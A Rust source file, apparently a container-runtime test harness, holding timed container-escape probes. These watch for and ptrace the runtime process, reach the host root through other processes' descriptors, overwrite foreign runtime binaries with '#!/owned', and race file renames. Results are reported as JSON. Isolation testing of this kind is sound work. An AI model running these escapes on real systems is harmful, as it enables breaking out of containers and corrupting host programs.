//! Attacks from inside a container, each with a time limit and an answer in JSON that says how often it was tried and
//! what it got. "Got" is decided by identity (device and inode), never by a name that a race could change.

use crate::{say, sys, wrong};
use serde_json::json;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// `attack watch SECONDS`, `attack climb SECONDS`, `attack overwrite SECONDS`, `attack swap ONE OTHER SECONDS`.
pub fn run(words: &[&str]) -> u8 {
    let until =
        |text: &str| text.parse::<f64>().ok().map(|time| Instant::now() + Duration::from_secs_f64(time));
    match words {
        ["watch", seconds] => until(seconds).map_or_else(|| wrong("watch takes seconds"), watch),
        ["climb", seconds] => until(seconds).map_or_else(|| wrong("climb takes seconds"), climb),
        ["overwrite", seconds] => until(seconds).map_or_else(|| wrong("overwrite takes seconds"), overwrite),
        ["swap", one, other, seconds] => {
            until(seconds).map_or_else(|| wrong("swap takes seconds"), |end| swap(one, other, end))
        }
        _ => wrong("no such attack"),
    }
}

/// Device and inode of the own program: what may be found behind another's `exe`.
fn own_program() -> Option<(u64, u64)> {
    let meta = std::fs::metadata("/proc/self/exe").ok()?;
    Some((meta.dev(), meta.ino()))
}

fn process_ids() -> Vec<i32> {
    let Ok(list) = std::fs::read_dir("/proc") else { return Vec::new() };
    list.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok()).collect()
}

/// Looks for a process that runs another program than the payload and can be opened, followed or traced. Such a
/// process is the runtime, on its way into the container.
fn watch(end: Instant) -> u8 {
    let own = own_program();
    let me = i32::try_from(std::process::id()).unwrap_or(0);
    let (mut rounds, mut seen, mut denied) = (0u64, std::collections::BTreeSet::new(), 0u64);
    let mut got = Vec::new();
    say("ready");
    while Instant::now() < end && got.len() < 20 {
        rounds += 1;
        for pid in process_ids().into_iter().filter(|pid| *pid != me) {
            seen.insert(pid);
            let program = |step: &str| match std::fs::metadata(format!("/proc/{pid}/exe")) {
                Ok(meta) => (Some((meta.dev(), meta.ino())) != own).then(|| format!("{step} of {pid}")),
                Err(_) => None,
            };
            match std::fs::metadata(format!("/proc/{pid}/exe")) {
                Err(error) if error.raw_os_error() == Some(libc::EACCES) => denied += 1,
                _ => got.extend(program("exe")),
            }
            // Between two looks at `exe` that both show a foreign program, a success was one on that program.
            for (name, flags) in [
                ("mem", libc::O_RDONLY),
                ("mem", libc::O_RDWR),
                ("root", libc::O_PATH),
                ("cwd", libc::O_PATH),
            ] {
                let opened = sys::open(&format!("/proc/{pid}/{name}"), flags, false);
                if opened.is_ok() {
                    got.extend(program(name));
                }
            }
            if let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) {
                let targets: Vec<String> = fds
                    .filter_map(|fd| {
                        Some(std::fs::read_link(fd.ok()?.path()).ok()?.to_string_lossy().into_owned())
                    })
                    .filter(|target| target.starts_with('/') && !target.starts_with("/dev/"))
                    .collect();
                got.extend(program(&format!("fds {targets:?}")));
            }
            if ptrace(SEIZE, pid) {
                got.extend(program("ptrace"));
                // Only a stopped one can be let go; one that ended meanwhile is reaped by the wait.
                if ptrace(INTERRUPT, pid) {
                    let _ = sys::wait_for(pid, libc::__WALL);
                }
                ptrace(DETACH, pid);
            }
        }
    }
    say(&json!({"rounds": rounds, "seen": seen.len(), "denied": denied, "got": got}).to_string());
    0
}

/// Looks for a process with a directory open from which another root than its own is reached. By CAP_SYS_PTRACE everybody's descriptors can
/// be opened, and a directory of the host leads to all of it.
fn climb(end: Instant) -> u8 {
    let own = std::fs::metadata("/").ok().map(|meta| (meta.dev(), meta.ino()));
    let me = i32::try_from(std::process::id()).unwrap_or(0);
    let (mut last, mut rounds) = (me, 0_u64);
    let (mut seen, mut got) = (std::collections::BTreeSet::new(), std::collections::BTreeSet::new());
    say("ready");
    while Instant::now() < end && got.len() < 20 {
        rounds += 1;
        if rounds % 256 == 0 {
            last = process_ids().into_iter().fold(last, i32::max);
        }
        // Numbers are given in order: whoever comes next has one of these.
        for pid in (last..last + 4).filter(|pid| *pid != me) {
            if !std::path::Path::new(&format!("/proc/{pid}")).exists() {
                continue;
            }
            last = pid.max(last);
            seen.insert(pid);
            for fd in 0..24 {
                let up = format!("/proc/{pid}/fd/{fd}/{}", "../".repeat(24));
                let Ok(meta) = std::fs::metadata(&up) else { continue };
                if own != Some((meta.dev(), meta.ino())) {
                    let link = std::fs::read_link(format!("/proc/{pid}/fd/{fd}"));
                    got.insert(link.map_or_else(|_| "?".to_owned(), |link| link.display().to_string()));
                }
            }
        }
    }
    say(&json!({"rounds": rounds, "seen": seen.len(), "got": got}).to_string());
    0
}

// Numbers of ptrace(2): the C libraries give them different types.
const SEIZE: i64 = 0x4206;
const INTERRUPT: i64 = 0x4207;
const DETACH: i64 = 17;

fn ptrace(request: i64, pid: i32) -> bool {
    sys::raw(libc::SYS_ptrace, [request, pid.into(), 0, 0, 0, 0]).is_ok()
}

/// Holds every foreign program that it can reach by an O_PATH descriptor and tries to write to it, also after the
/// process has ended (the kernel refuses while it runs).
fn overwrite(end: Instant) -> u8 {
    let own = own_program();
    let mut held: Vec<(sys::Fd, u64, u64)> = Vec::new();
    let (mut rounds, mut written) = (0u64, Vec::new());
    say("ready");
    while Instant::now() < end {
        rounds += 1;
        for pid in process_ids() {
            let Ok(fd) = sys::open(&format!("/proc/{pid}/exe"), libc::O_PATH, false) else { continue };
            let Ok(stat) = sys::fstat(fd.raw()) else { continue };
            let foreign = own != Some((stat.st_dev, stat.st_ino));
            if foreign
                && !held.iter().any(|(_, device, inode)| (*device, *inode) == (stat.st_dev, stat.st_ino))
            {
                held.push((fd, stat.st_dev, stat.st_ino));
            }
        }
        for (fd, device, inode) in &held {
            let path = format!("/proc/self/fd/{}", fd.raw());
            let Ok(open) = sys::open(&path, libc::O_WRONLY, false) else { continue };
            use std::io::Write;
            let wrote = std::fs::File::from(open.owned()).write_all(b"#!/owned\n").is_ok();
            written.push(json!({"device": device, "inode": inode, "wrote": wrote}));
        }
        if written.len() > 20 {
            break;
        }
    }
    say(&json!({"rounds": rounds, "held": held.len(), "written": written}).to_string());
    0
}

/// Swaps two names as fast as it can.
fn swap(one: &str, other: &str, end: Instant) -> u8 {
    let (mut rounds, mut failures) = (0u64, 0u64);
    say("ready");
    while Instant::now() < end {
        match sys::exchange(one, other) {
            Ok(()) => rounds += 1,
            Err(_) => failures += 1,
        }
    }
    say(&json!({"rounds": rounds, "failures": failures}).to_string());
    0
}
